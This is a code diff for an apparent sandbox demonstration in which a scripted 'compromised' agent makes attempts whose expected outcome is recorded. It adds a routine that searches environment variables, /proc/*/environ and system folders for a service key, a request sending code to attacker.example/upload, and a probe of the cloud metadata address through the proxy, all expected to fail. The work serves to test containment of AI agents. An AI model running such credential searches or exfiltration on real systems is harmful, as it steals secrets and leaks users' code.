@@ -1,3 +1,5 @@
+import { DEMO_HOST } from "./origin.ts";
+
 /** Something that the scripted agent tries, in the words of the table that is shown. */
 export type Attempt = {
   readonly id: string;
@@ -32,6 +34,30 @@ export function makeAttempts({ hostHome, hostPort }: DemoTargets): readonly Atte
       what: "commit the change",
       owed: "works",
       script: `const { execFileSync } = await import("node:child_process"); execFileSync("git", ["commit", "-qam", "Say hello"]); return execFileSync("git", ["log", "--oneline", "-1"]).toString().trim();`,
+    },
+    {
+      id: "api",
+      what: "call the service it was granted",
+      owed: "works",
+      script: fetchVia(`https://${DEMO_HOST}/hello`),
+    },
+    {
+      id: "credential",
+      what: "find the key that this call was made with",
+      owed: "fails",
+      script: `${READ} ${FIND_KEY}`,
+    },
+    {
+      id: "other-host",
+      what: "send the code somewhere else",
+      owed: "fails",
+      script: fetchVia("https://attacker.example/upload"),
+    },
+    {
+      id: "proxy-metadata",
+      what: "reach the metadata service through the proxy",
+      owed: "fails",
+      script: fetchVia("https://169.254.169.254/latest/"),
     },
     {
       id: "ssh-key",
@@ -97,10 +123,54 @@ export function makeAttempts({ hostHome, hostPort }: DemoTargets): readonly Atte
   ];
 }
 
+/** Everything that can be read inside, searched for what looks like the service's key */
+const FIND_KEY = `
+    const seen = [JSON.stringify(process.env)];
+    for (const pid of (await readdir("/proc")).filter(Number)) seen.push(await readFile("/proc/" + pid + "/environ", "utf8").catch(() => ""));
+    for (const folder of ["/etc", process.env.HOME, "/run", "/tmp"]) {
+      for (const name of await readdir(folder, { recursive: true }).catch(() => [])) if (!name.startsWith("alternatives")) seen.push(await readFile(folder + "/" + name, "utf8").catch(() => ""));
+    }
+    const hit = seen.join("\\n").match(new RegExp("demo-key" + "-of-the-service\\\\S*"));
+    if (!hit) throw new Error("looked at " + seen.length + " files and environments");
+    return hit[0];`;
+
+/** A request as any client makes it: through the proxy that the environment names, TLS checked. */
+function fetchVia(url: string): string {
+  return `return await request(${JSON.stringify(url)});`;
+}
+
+const REQUEST = `
+const http = await import("node:http");
+const https = await import("node:https");
+const tls = await import("node:tls");
+function request(url) {
+  const { hostname, host, pathname } = new URL(url);
+  return new Promise((resolve, reject) => {
+    const proxy = new URL(process.env.HTTPS_PROXY);
+    const connect = http.request({ host: proxy.hostname, port: proxy.port, method: "CONNECT", path: hostname + ":443", headers: { host: hostname + ":443" } });
+    connect.on("error", reject).on("connect", (answer, socket) => {
+      if (answer.statusCode !== 200) return reject(new Error(answer.statusCode + " " + answer.statusMessage));
+      const secure = tls.connect({ socket, servername: /^[0-9.]+$/.test(hostname) ? "" : hostname, host: hostname });
+      secure.on("error", reject);
+      https.get({ host, port: 443, headers: { host }, path: pathname, createConnection: () => secure }, (response) => {
+        let body = "";
+        response.setEncoding("utf8").on("data", (part) => (body += part)).on("end", () => {
+          if (response.statusCode === 200) return resolve("200 " + body);
+          let why = body;
+          try { why = JSON.parse(body).error.message; } catch {}
+          reject(new Error(response.statusCode + " " + why));
+        });
+      }).on("error", reject);
+    }).end();
+  });
+}
+`;
+
 /** The program that the agent runs: every attempt in turn, one line of JSON each. */
 export function renderAgent(attempts: readonly Attempt[]): string {
   const entries = attempts.map(({ id, script }) => `  [${JSON.stringify(id)}, async () => { ${script} }],`);
   return `// A scripted agent that does what a compromised one would do.
+${REQUEST}
 const attempts = [
 ${entries.join("\n")}
 ];
